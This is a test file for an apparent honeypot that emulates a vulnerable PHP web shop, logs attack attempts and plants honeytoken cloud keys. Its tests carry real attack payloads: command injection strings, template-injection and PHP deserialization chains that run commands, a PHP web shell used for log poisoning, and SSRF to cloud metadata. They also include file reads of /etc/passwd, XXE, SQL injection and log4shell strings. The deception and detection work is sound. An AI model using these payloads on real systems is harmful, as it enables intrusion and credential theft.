import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import { textsOf } from '../../../src/emulators/web-app/attacks/serialized.ts'
import webApp from '../../../src/emulators/web-app/index.ts'
import { createHosts } from '../../../src/host/hosts.ts'
import { MemoryState, noEngine, type Playing, play } from '../../harness.ts'

let playing: Playing
let base: string

beforeAll(async () => {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  playing = await play(webApp, { persona: 'debian-web', identity, state, hosts: createHosts({ identity, engine: noEngine, state }) })
  base = `http://127.0.0.1:${playing.port()}`
})

afterAll(async () => {
  expect([playing.data('lure.fault'), playing.deadLetters]).toEqual([[], []])
  await playing.stop()
})

const get = async (target: string, init: RequestInit = {}): Promise<string> =>
  (await fetch(base + target, { redirect: 'manual', ...init })).text()
const shown = async (value: string): Promise<string> =>
  /<main class="wide">([\s\S]{0,300})/.exec(await get(`/?q=${encodeURIComponent(value)}`))?.[1] ?? ''
const attacks = () => playing.data<{ class: string; place: string; name: string; value: unknown; worked: boolean }>('web-app.attack')

describe('a command behind any separator', () => {
  it.each([';id', '|id', '||id', '&&id', '\nid', '$(id)', '`id`', 'x;id #'])('%j', async (value) => {
    expect(await shown(value)).toMatch(/^uid=33\(www-data\)/)
  })

  it('takes as long as it sleeps', async () => {
    const startedAt = performance.now()
    await shown(';sleep 1')
    expect(performance.now() - startedAt).toBeGreaterThan(990)
  })
})

describe('an expression of a template engine', () => {
  it.each([
    ['Jinja2, Twig, Tornado', '{{7*7}}', '49'],
    ['Freemarker, SpEL, Mako', '${7*7}', '49'],
    ['Thymeleaf', '[[${7*7}]]', '49'],
    ['Thymeleaf', '*{7*7}', '49'],
    ['ERB', '<%= 7*7 %>', '49'],
    ['Ruby', '#{7*7}', '49'],
    ['OGNL', '%{7*7}', '49'],
    ['Velocity', '#set($x=7*7)$x', '49'],
    ['Razor', '@(7*7)', '49'],
    ['Smarty', '{7*7}', '49'],
    ['any of them', '${{7*7}}', '49'],
    ['Jinja2', "{{cycler.__init__.__globals__.os.popen('id').read()}}", 'uid=33'],
    ['Freemarker', '${"freemarker.template.utility.Execute"?new()("id")}', 'uid=33'],
    ['SpEL', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'uid=33'],
    ['OGNL', '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}', 'uid=33'],
    ['Velocity', '#set($e=$class.forName("java.lang.Runtime").getRuntime().exec("id"))$e', 'uid=33'],
    ['ERB', '<%= `id` %>', 'uid=33'],
    ['Mako', "${self.module.cache.util.os.popen('id').read()}", 'uid=33'],
  ])('of %s: %s', async (_engine, value, expected) => {
    expect((await shown(value)).startsWith(expected)).toBe(true)
    expect(attacks().at(-1)).toMatchObject({ class: 'template', worked: true })
  })
})

describe('a serialized chain of objects', () => {
  const text = (value: string): string => `s:${value.length}:"${value}";`
  it.each([
    [
      'Monolog (phpggc Monolog/RCE1)',
      `O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{${text('\0*\0socket')}O:29:"Monolog\\Handler\\BufferHandler":3:{${text('\0*\0handler')}r:2;${text('\0*\0buffer')}a:1:{i:0;a:2:{i:0;${text('id')}${text('level')}N;}}${text('\0*\0processors')}a:2:{i:0;${text('current')}i:1;${text('system')}}}}`,
    ],
    [
      'Laravel (phpggc Laravel/RCE1)',
      `O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{${text('\0*\0events')}O:15:"Faker\\Generator":1:{${text('\0*\0formatters')}a:1:{${text('dispatch')}${text('system')}}}${text('\0*\0event')}${text('id')}}`,
    ],
  ])('of %s runs what it carries', async (_name, value) => {
    expect(await shown(value)).toMatch(/^uid=33\(www-data\)/)
    expect(attacks().at(-1)).toMatchObject({ class: 'unserialize', worked: true })
  })

  it('that calls phpinfo shows it', async () => {
    expect(await get(`/?q=${encodeURIComponent(`O:1:"A":1:{${text('f')}${text('phpinfo')}}`)}`)).toContain('PHP Version 8.2')
  })

  it('of any bytes is read to its end or refused', () => {
    expect(textsOf(`a:2:{i:0;${text('a"b')}${text('k')}b:1;}`)).toEqual({ all: ['a"b', 'k'], values: ['a"b'] })
    for (const broken of ['s:9:"x";', 'O:1:"A":1:{}', 'a:1:{i:0;', `${'a:1:{i:0;'.repeat(200)}N;`]) expect(textsOf(broken)).toBe(undefined)
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'aOCsiNr:;{}"0123'), maxLength: 60 }), (value) => {
        textsOf(value)
      }),
    )
  })
})

describe('files that hold what was just sent', () => {
  const agent = "<?php system($_GET['c']); ?>"
  const expected = createHash('md5').update('poison-7').digest('hex')

  it('the log of the server, with PHP in a name of a browser', async () => {
    await get('/', { headers: { 'User-Agent': agent } })
    const page = await get('/index.php?page=../../../../var/log/nginx/access.log&c=id')
    expect(page).toMatch(/uid=33\(www-data\)/)
    // nginx writes a quote as \x22, which is no PHP.
    await get('/', { headers: { 'User-Agent': '<?php echo "a"; ?>' } })
    const encoded = /<main class="wide">\s*([\w+/=]{100,})/.exec(
      await get('/index.php?page=php://filter/convert.base64-encode/resource=../../../../var/log/nginx/access.log'),
    )![1]!
    expect(Buffer.from(encoded, 'base64').toString()).toMatch(/"GET \/ HTTP\/1\.1" 200 0 "-" "<\?php echo \\x22a\\x22; \?>"\n$/)
  })

  it('the environment of the script', async () => {
    const page = await get('/index.php?page=../../../../proc/self/environ', { headers: { 'User-Agent': 'probe/7' } })
    expect(page).toMatch(/DOCUMENT_ROOT=\/var\/www\/shop\0[\s\S]*HTTP_USER_AGENT=probe\/7\0/)
    const code = { headers: { 'User-Agent': '<?php echo md5("poison-7"); ?>' } }
    expect(await get('/index.php?page=/proc/self/environ', code)).toContain(expected)
  })
})

describe('a page that gets what it is told to', () => {
  const asked = async (url: string): Promise<string> =>
    /<pre>([\s\S]*?)<\/pre>/.exec(await get(`/intranet/preview.php?url=${encodeURIComponent(url)}`))?.[1] ?? ''

  it("gives the keys of the cloud's metadata away, which tell on who uses them", async () => {
    expect(await asked('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).toBe('shop-web')
    const keys = await asked('http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web')
    const [, id] = /AccessKeyId&quot; : &quot;(AKIA[A-Z0-9]{16})&quot;/.exec(keys)!
    await get(`/?key=${id}`)
    expect(
      playing.events.some(({ type, data }) => type === 'honeytoken.returned' && (data as { kind: string }).kind === 'aws-key-id'),
    ).toBe(true)
    expect(attacks().findLast(({ name }) => name === 'url')).toMatchObject({ class: 'rfi', worked: true })
  })

  it.each([
    ['http://127.0.0.1:6379/', 'cURL error 7: Failed to connect to 127.0.0.1 port 6379 after 0 ms: Connection refused'],
    ['https://evil.example/x', 'cURL error 6: Could not resolve host: evil.example'],
    ['gopher://127.0.0.1:6379/_x', 'cURL error 1: Protocol &quot;gopher&quot; not supported or disabled in libcurl'],
    ['http://169.254.169.254/latest/none', '404 - Not Found'],
  ])('never reaches %s', async (url, said) => {
    expect((await asked(url)).replaceAll('&#34;', '&quot;')).toBe(said)
    expect(playing.data('indicator')).toContainEqual({ kind: 'url', value: url, how: 'web-app.fetch' })
  })

  it('reads files of the host', async () => {
    expect(await asked('file:///etc/passwd')).toMatch(/^root:x:0:0:/)
  })
})

describe('attacks are found wherever they stand', () => {
  it('in parts of a form, names of files, texts of XML and JSON', async () => {
    const body = new FormData()
    body.set('note', ';id')
    body.set('file', new Blob(['x']), '../../x.php')
    await get('/', { method: 'POST', body })
    await get('/api', { method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: "<a><name>1' OR '1'='1</name></a>" })
    await get('/api', {
      method: 'POST',
      headers: { 'Content-Type': 'text/xml' },
      body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
    })
    await get('/api', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"q":["1 UNION SELECT 1"]}' })
    await get('/', { headers: { Cookie: `cart=${encodeURIComponent('O:1:"A":1:{s:3:"cmd";s:2:"id";}')}` } })
    await get('/?x=%2524%257Bjndi:ldap://x.example/a%257D')
    expect(
      attacks()
        .slice(-7)
        .map(({ class: name, place }) => `${name} ${place}`),
    ).toEqual(['command form', 'lfi upload', 'sql xml', 'xxe xml', 'sql json', 'unserialize cookie', 'log4shell query'])
  })
})

describe('files of the site', () => {
  it('have validators and answer conditions and ranges', async () => {
    const head = await fetch(`${base}/assets/shop.css`, { method: 'HEAD' })
    const etag = head.headers.get('etag')!
    expect([head.status, head.headers.get('last-modified')]).toEqual([200, expect.stringMatching(/ 2025 /)])
    expect((await fetch(`${base}/assets/shop.css`, { headers: { 'If-None-Match': etag } })).status).toBe(304)
    expect((await fetch(`${base}/assets/shop.css`, { headers: { Range: 'bytes=0-9' } })).status).toBe(206)
  })
})
